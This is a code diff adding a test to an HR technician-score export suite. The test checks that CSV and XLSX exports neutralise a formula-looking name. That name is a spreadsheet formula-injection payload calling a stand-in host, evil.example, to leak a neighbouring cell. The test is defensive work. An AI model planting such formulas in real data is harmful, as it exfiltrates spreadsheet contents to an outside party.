@@ -392,6 +392,35 @@ describe('the HR table', () => {
     expect(lines).toHaveLength(technicians.size + 1);
   });
 
+  it('exports a formula-looking technician name as text: quoted in CSV, a string cell in XLSX; numbers stay numbers', async () => {
+    const name = '=HYPERLINK("http://evil.example/?"&A2,"x")';
+    const { id } = technicians.get('HQ-T01')!;
+    const [{ name: original }] = await app.dataSource.query('SELECT name FROM technician WHERE id = $1', [id]);
+    await app.dataSource.query('UPDATE technician SET name = $2 WHERE id = $1', [id, name]);
+    try {
+      const csv = await app.download(`/exports/technician-scores.csv?period=${PERIOD}`, hr);
+      const lines = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await csv.arrayBuffer()).slice(1).trim().split(/\r?\n/);
+      const row = lines.find((line) => line.includes('HQ-T01'))!;
+      // 技术员 is the third column; fast-csv doubles the quotes inside a quoted cell.
+      expect(row).toMatch(/^2025-03,HQ-T01,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A2,""x""\)",/);
+      // 总分 (column 19) is written as a number, not as neutralised text.
+      const total = row.split(',').at(-7)!;
+      expect(total).toMatch(/^\d+(\.\d+)?$/);
+
+      const xlsx = await app.download(`/exports/technician-scores.xlsx?period=${PERIOD}`, hr);
+      const workbook = new ExcelJS.Workbook();
+      await workbook.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as never);
+      const sheet = workbook.worksheets[0]!;
+      const cell = sheet.getColumn(2).values.indexOf('HQ-T01');
+      const nameCell = sheet.getRow(cell).getCell(3);
+      expect(nameCell.type).toBe(ExcelJS.ValueType.String);
+      expect(nameCell.value).toBe(name);
+      expect(nameCell.formula).toBeUndefined();
+    } finally {
+      await app.dataSource.query('UPDATE technician SET name = $2 WHERE id = $1', [id, original]);
+    }
+  });
+
   it('shows a partner only its own technicians’ published scores', async () => {
     const seen = await scoresOf(partner, { first: 100 });
     expect(seen.nodes).toEqual([]);
